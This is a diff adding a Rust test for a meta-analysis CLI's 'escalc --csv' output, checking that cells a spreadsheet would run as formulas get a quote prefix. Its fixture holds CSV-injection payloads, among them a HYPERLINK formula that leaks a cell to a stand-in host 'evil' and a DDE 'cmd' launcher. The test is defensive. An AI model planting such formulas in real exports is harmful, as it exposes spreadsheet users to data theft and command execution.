@@ -671,6 +671,37 @@ fn escalc_turns_a_csv_into_records_and_call_reads_them() {
     assert_eq!(fits[0]["estimate"], fits[2]["estimate"]);
 }
 
+/// Issue 25, item 1: `escalc --csv` neutralises every text cell a spreadsheet would run as a
+/// formula (ids, text columns, column names); numbers, negative ones too, stay as they are.
+#[test]
+fn escalc_csv_neutralizes_formulas() {
+    let out = run(
+        &["escalc", "--measure", "MD", "--csv", "-"],
+        Some(
+            "id,m1i,sd1i,n1i,m2i,sd2i,n2i,note,=cmd\n\
+\"=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",1,1,10,2,1,10,\"+cmd|' /C calc'!A0\",x\n\
+@SUM(A1:A9),2,1,10,1,1,10,\t-y,-3\n\
+-1,3,1,10,3,1,10,plain,z\n"
+                .as_bytes(),
+        ),
+    );
+    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
+    let text = String::from_utf8(out.stdout).unwrap();
+    let lines: Vec<&str> = text.lines().collect();
+    assert!(lines[0].ends_with(",note,\"'=cmd\""), "{text}");
+    assert!(
+        lines[1].starts_with("\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",-1"),
+        "{text}"
+    );
+    assert!(lines[1].ends_with(",\"'+cmd|' /C calc'!A0\",x"), "{text}");
+    assert!(lines[2].starts_with("\"'@SUM(A1:A9)\",1"), "{text}");
+    // The CSV reader trims fields, so the tab of "\t-y" is gone; its quote stays in front.
+    assert!(lines[2].ends_with(",\"'-y\",-3"), "{text}");
+    // A text id that is a plain number is not prefixed (docs/RELIABILITY.md).
+    assert!(lines[3].starts_with("-1,0"), "{text}");
+    assert_eq!(lines.len(), 4, "{text}");
+}
+
 #[test]
 fn escalc_reports_bad_rows_and_bad_files() {
     let dir = temp_dir("escalc-bad");
